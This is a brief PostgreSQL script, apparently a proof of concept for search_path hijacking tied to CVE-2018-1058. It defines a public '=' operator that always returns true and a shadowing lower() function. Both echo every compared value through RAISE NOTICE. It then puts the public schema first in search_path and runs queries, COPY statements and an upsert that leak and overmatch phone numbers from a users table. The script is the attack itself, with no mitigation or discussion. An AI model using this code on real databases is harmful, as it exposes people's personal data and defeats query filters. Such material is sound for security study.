-- what: operators, casts and functions of the caller's before those of PostgreSQL and of the extension
-- known: CVE-2018-1058, CVE-2026-19633
-- purpose: ads
CREATE FUNCTION public.equal(text, text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN true; END $$;
CREATE OPERATOR public.= (FUNCTION = public.equal, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE plpgsql IMMUTABLE COST 0.0001 AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN $1; END $$;
SET search_path = public, pg_catalog;
SELECT phone FROM users WHERE phone = 'x' AND user_id > 0;
SELECT count(*) FROM users WHERE lower(phone) OPERATOR(pg_catalog.=) 'x';
SELECT phone FROM users WHERE CASE WHEN phone = 'x' THEN true ELSE false END;
COPY users (phone) TO STDOUT;
COPY (SELECT phone FROM users WHERE phone = 'x') TO STDOUT;
INSERT INTO users (user_id, phone) VALUES (666, 'x') ON CONFLICT (user_id) DO UPDATE SET phone = users.phone WHERE users.phone = 'x' RETURNING phone;
